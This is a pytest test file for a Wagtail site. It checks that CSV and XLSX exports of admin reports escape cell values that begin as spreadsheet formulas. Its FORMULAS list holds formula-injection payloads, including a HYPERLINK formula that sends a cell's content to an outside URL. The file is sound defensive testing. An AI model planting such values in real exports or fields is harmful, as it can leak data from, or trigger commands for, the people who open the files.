"""Lists and reports as spreadsheets, with titles that are formulas or that no file may hold."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log

from tests import builders

FORMULAS = [
    '=HYPERLINK("https://example.net/?"&A1,"Klik")',
    "+1+1",
    "-1+cmd",
    "@SUM(1)",
    "\t=1+1",
    "\x1b=1+1",
]
LISTS = [
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:aging_pages",
    "wagtailredirects:index",
]


@pytest.fixture
def written(home, admin_user) -> None:
    """What people wrote, in each list."""
    for number, text in enumerate(FORMULAS):
        page = builders.info(text, slug=f"formule-{number}")
        page.save_revision(user=admin_user).publish(user=admin_user)
        log(page, "wagtail.edit", user=admin_user)
        Redirect.add_redirect(f"/van-{number}", f"https://example.org/{number}")


def cells_of(client, name: str, file_format: str) -> list:
    answer = client.get(reverse(name), {"export": file_format})
    assert answer.status_code == 200
    content = b"".join(answer.streaming_content)
    if file_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book.active.iter_rows() for cell in row]


@pytest.mark.parametrize("name", LISTS)
def test_no_cell_of_a_csv_file_begins_as_a_formula(name, written, admin_client):
    cells = cells_of(admin_client, name, "csv")
    assert len(cells) > 2
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x1b"))]


@pytest.mark.parametrize("name", LISTS)
def test_each_list_is_an_xlsx_file_without_formulas(name, written, admin_client):
    cells = cells_of(admin_client, name, "xlsx")
    assert len(cells) > 2
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_texts_are_in_it(written, admin_client):
    titles = cells_of(admin_client, LISTS[0], "csv")
    assert "'" + FORMULAS[0] in titles
    assert "'=1+1" in titles
